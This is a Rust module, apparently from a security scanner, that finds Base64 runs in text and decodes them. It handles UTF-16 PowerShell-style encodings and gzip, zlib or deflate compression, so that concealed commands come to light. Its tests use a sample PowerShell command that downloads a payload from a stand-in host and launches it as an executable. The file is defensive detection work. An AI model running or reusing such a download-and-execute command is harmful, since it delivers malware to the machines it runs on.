//! Texts that stand encoded within another: Base64 of UTF-16 (as PowerShell takes commands), of
//! ASCII, and of what was compressed before (Deflate, zlib, gzip).

use std::io::Read;

use data_encoding::{BASE64_NOPAD, Encoding};
use flate2::read::{DeflateDecoder, GzDecoder, ZlibDecoder};

/// Shortest run of letters that is decoded: 32 letters are 12 characters of a command.
const SHORTEST: usize = 32;
/// Runs that are decoded.
const MAX_RUNS: usize = 32;
/// Octets that one run may come to.
const MAX_DECODED: u64 = 512 << 10;

/// The texts that stand encoded in `text`.
pub fn texts(text: &str) -> Vec<String> {
    let is_letter = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
    let runs = text.split(|c| !is_letter(c)).filter(|run| run.len() >= SHORTEST);
    runs.take(MAX_RUNS).filter_map(decode).collect()
}

/// The octets of Base64, with or without its padding; what is over at the end is left out.
pub fn octets(run: &str) -> Option<Vec<u8>> {
    let letters = run.trim_end_matches('=');
    // One letter alone is less than an octet.
    let length = if letters.len() % 4 == 1 { letters.len().saturating_sub(1) } else { letters.len() };
    lenient()?.decode(letters.get(..length)?.as_bytes()).ok()
}

/// Base64 whose last letter may have bits over.
fn lenient() -> Option<Encoding> {
    let mut specification = BASE64_NOPAD.specification();
    specification.check_trailing_bits = false;
    specification.encoding().ok()
}

fn decode(run: &str) -> Option<String> {
    let octets = octets(run)?;
    if let Some(text) = text_of(&octets) {
        return Some(text);
    }
    let mut inflated = Vec::new();
    let is_read = match octets.as_slice() {
        [0x1f, 0x8b, ..] => GzDecoder::new(octets.as_slice()).take(MAX_DECODED).read_to_end(&mut inflated).is_ok(),
        [0x78, ..] => ZlibDecoder::new(octets.as_slice()).take(MAX_DECODED).read_to_end(&mut inflated).is_ok(),
        _ => DeflateDecoder::new(octets.as_slice()).take(MAX_DECODED).read_to_end(&mut inflated).is_ok(),
    };
    // What broke off may still have told something.
    if is_read || inflated.len() >= SHORTEST { text_of(&inflated) } else { None }
}

/// The octets as text, if they are one: UTF-16 or ASCII of printable characters.
pub fn text_of(octets: &[u8]) -> Option<String> {
    if octets.len() < 8 {
        return None;
    }
    let zeros = octets.iter().skip(1).step_by(2).filter(|octet| **octet == 0).count();
    let text: String = if zeros.saturating_mul(4) >= octets.len() {
        let units = octets.chunks_exact(2).filter_map(|two| two.try_into().ok().map(u16::from_le_bytes));
        char::decode_utf16(units).map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER)).collect()
    } else {
        octets.iter().copied().map(char::from).collect()
    };
    let printable = text.chars().filter(|c| matches!(c, ' '..='~' | '\t' | '\r' | '\n')).count();
    let all = text.chars().count();
    (printable.saturating_mul(20) >= all.saturating_mul(19)).then_some(text)
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use data_encoding::BASE64;
    use flate2::Compression;
    use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};

    use super::*;

    const SCRIPT: &str = "Invoke-WebRequest http://a.example/payload -OutFile x.exe; Start-Process x.exe";

    #[test]
    fn every_encoding_is_taken_off() {
        let wide: Vec<u8> = SCRIPT.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
        gzip.write_all(SCRIPT.as_bytes()).unwrap();
        let mut zlib = ZlibEncoder::new(Vec::new(), Compression::default());
        zlib.write_all(SCRIPT.as_bytes()).unwrap();
        let mut deflate = DeflateEncoder::new(Vec::new(), Compression::default());
        deflate.write_all(SCRIPT.as_bytes()).unwrap();
        let all = [
            wide,
            SCRIPT.as_bytes().to_vec(),
            gzip.finish().unwrap(),
            zlib.finish().unwrap(),
            deflate.finish().unwrap(),
        ];
        for octets in all {
            let text = BASE64.encode(&octets);
            for text in [text.trim_end_matches('=').to_owned(), text.clone(), format!("x -e '{text}' y")] {
                assert_eq!(texts(&text), [SCRIPT], "{text}");
            }
        }
    }

    #[test]
    fn what_decodes_to_noise_is_no_text() {
        for text in [
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            &"abcdefgh".repeat(20),
            "C:/Users/Public/Documents/Reports/Year",
        ] {
            assert_eq!(texts(text), [] as [&str; 0], "{text}");
        }
    }
}
